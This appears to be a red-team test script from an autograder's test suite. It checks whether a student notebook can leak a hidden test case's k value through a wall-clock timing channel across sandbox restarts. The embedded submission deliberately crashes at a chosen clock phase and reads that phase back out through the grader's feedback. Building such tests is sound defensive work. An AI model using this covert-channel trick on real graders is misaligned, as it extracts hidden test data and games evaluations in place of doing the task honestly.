"""Red team 5: a hidden input read back through the wall clock of a restarted sandbox run, beside an
honest classmate.

    export PYTHONPATH=$PWD:$PWD/topkeval/src
    .venv/bin/python tests/grade/redteam_r5/scripts/wall_clock_attack.py [SEEDS...]

precision_at_k's first randomised (hidden) case waits until the wall clock's phase (mod 8 s) is
(k % 16) half-seconds, then ends the process. The grader starts a new sandbox for the questions after
it; the notebook's cell reads the phase again, and recall_at_k's worked examples return it, which the
feedback shows ("got 0.83..."). The restart takes 0.2-0.4 s here (load 6 on 2 cores), well inside the
half-second slot.
"""

from __future__ import annotations

CODE = """
import time, os
C, SLOT = 8.0, 0.5
PHASE = time.time() % C          # run 2 reads the wall clock where run 1 left it
CALLS = [0]
def precision_at_k(ranking, relevant, k):
    CALLS[0] += 1
    if CALLS[0] == {call}:       # the first randomized (hidden) case
        now = time.time()
        target = now - (now % C) + (k % 16) * SLOT + 0.05
        if target < now + 0.01:
            target += C
        time.sleep(target - now)
        os._exit(3)              # crash at a chosen wall-clock phase
    return 0.0
def recall_at_k(ranking, relevant, k):
    return PHASE / C             # a worked example's value: shown in the feedback
"""


def attack(seed: int) -> tuple[int, int | None, float]:
    """(k % 16 of the attacker's own hidden case, what the feedback gives back, the honest classmate's
    score)."""
    import re
    import tempfile
    from pathlib import Path

    from tests.grade.redteam_r5.common import (
        call_numbers,
        grade_class,
        hidden_k,
        notebook,
        section,
        with_honest,
    )

    folder = Path(tempfile.mkdtemp(prefix="r5-clock-", dir="/tmp"))
    (folder / "subs").mkdir()
    call = call_numbers("precision_at_k", seed, "attacker.ipynb")[0]
    notebook(folder / "subs" / "attacker.ipynb", CODE.format(call=call))
    with_honest(folder / "subs", "honest.ipynb")
    graded = grade_class(folder / "subs", folder / "out", seed)
    shown = re.search(
        r"got ` (0\.\d+(?:e-\d+)?) `", section(graded["attacker.ipynb"]["feedback"], "recall_at_k")
    )
    decoded = None if shown is None else int(((float(shown.group(1)) * 8.0 - 0.15) % 8.0) // 0.5)
    want = hidden_k("precision_at_k", seed, "attacker.ipynb") % 16
    return want, decoded, graded["honest.ipynb"]["report"]["score"]


def main(seeds: list[int]) -> None:
    for seed in seeds:
        want, got, honest = attack(seed)
        print(
            f"seed {seed}: hidden k % 16 = {want}, read from the feedback: {got}, "
            f"honest classmate {honest}/14"
        )


if __name__ == "__main__":
    import sys

    main([int(s) for s in sys.argv[1:]] or [1, 2, 3])
